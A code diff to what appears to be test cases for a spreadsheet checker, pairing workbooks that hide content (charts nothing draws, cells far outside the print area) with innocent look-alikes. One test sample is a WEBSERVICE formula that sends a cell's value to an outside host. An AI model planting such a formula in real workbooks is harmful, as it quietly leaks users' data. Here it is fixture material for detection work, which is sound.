@@ -1,4 +1,6 @@
 """Workbooks that hide something, each beside an innocent one that looks much the same."""
+import re
+
 from archive import Entry, archive
 from workbooks import HEAD, MAIN, OFFICE, SHEET, TABLE, Book, Sheet, cell, relationship, relationships, styles
 
@@ -317,6 +319,9 @@ def cases(add):
     pair("formula-outside", formula(2, 3, 'WEBSERVICE("https://example.org/?n="&B2)', 55), formula(2, 3, "SUM(B2:C2)", 55), "FAIL", "FILE-009", "Table 1!D2", "reaches outside")
     pair("chart-of-deleted-sheet", chart("Patients!$B$2:$B$7", [3, 1, 4, 1, 5, 9]), chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29]), "FAIL", "FILE-004", "Table 1!F2", "6 values")
     pair("chart-with-other-values", chart("'Table 1'!$B$2:$B$5", [24, 45, 3, 29]), chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29]), "FAIL", "FILE-004", "Table 1!F2", "1 value")
+    undrawn = chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29])
+    undrawn.parts["xl/drawings/drawing1.xml"] = re.sub("<xdr:twoCellAnchor>.*</xdr:twoCellAnchor>", "", undrawn.parts["xl/drawings/drawing1.xml"])
+    pair("chart-that-nothing-draws", undrawn, chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29]), "FAIL", "FILE-004", "", "no sheet shows")
     pair("outside-print-area", far(8, 7, "see the list of names", "$A$1:$D$6"), far(8, 7, None, "$A$1:$D$6"), "REVIEW", "FILE-004", "Table 1!H8", "print area")
     pair("far-away-cell", far(900, 51, "stage IV, 71 years"), far(8, 0, "Source: registry"), "REVIEW", "FILE-004", "Table 1!AZ900", "away")
     pair("last-cell-of-all", far(1048576, 16383, 3), plain, "FAIL", "FILE-001", "", "Table 1")
